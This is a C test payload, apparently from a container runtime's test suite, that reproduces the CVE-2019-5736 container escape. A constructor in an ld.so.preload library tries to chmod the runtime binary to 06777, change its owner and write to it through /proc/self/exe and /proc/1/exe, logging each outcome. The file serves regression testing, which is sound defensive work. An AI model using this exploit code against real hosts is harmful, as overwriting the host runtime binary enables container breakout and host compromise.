/*
 * The CVE-2019-5736 payload, for tests/vm/runtime-escape-proc.sh. The test
 * image lists this library in /etc/ld.so.preload and has a /bin/sh that is
 * "#!/proc/self/exe": when the runtime execs /bin/sh in the container, the
 * kernel runs whatever binary the exec'ing process is, with the container's
 * loader, which loads this library. Its constructor then tries what the
 * attack did: change the mode and owner of that binary through
 * /proc/self/exe and /proc/1/exe, and open it for writing. It reports each
 * result in /exe-payload.log (inside the container) and exits before the
 * binary's own main runs.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void try_exe(FILE *log, const char *path)
{
	char target[4096];
	ssize_t n = readlink(path, target, sizeof(target) - 1);
	target[n < 0 ? 0 : n] = 0;
	fprintf(log, "%s readlink=%s\n", path, n < 0 ? strerror(errno) : target);
	fprintf(log, "%s chmod=%s\n", path, chmod(path, 06777) ? strerror(errno) : "done");
	fprintf(log, "%s chown=%s\n", path, chown(path, 65534, 65534) ? strerror(errno) : "done");
	int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd < 0) {
		fprintf(log, "%s write=%s\n", path, strerror(errno));
		return;
	}
	ssize_t w = write(fd, "PWNED", 5);
	fprintf(log, "%s write=%s\n", path, w == 5 ? "done" : strerror(errno));
	close(fd);
}

__attribute__((constructor)) static void payload(void)
{
	FILE *log = fopen("/exe-payload.log", "ae");
	if (!log)
		_exit(99);
	fprintf(log, "payload ran as pid %d\n", (int)getpid());
	try_exe(log, "/proc/self/exe");
	try_exe(log, "/proc/1/exe");
	fclose(log);
	_exit(42);
}
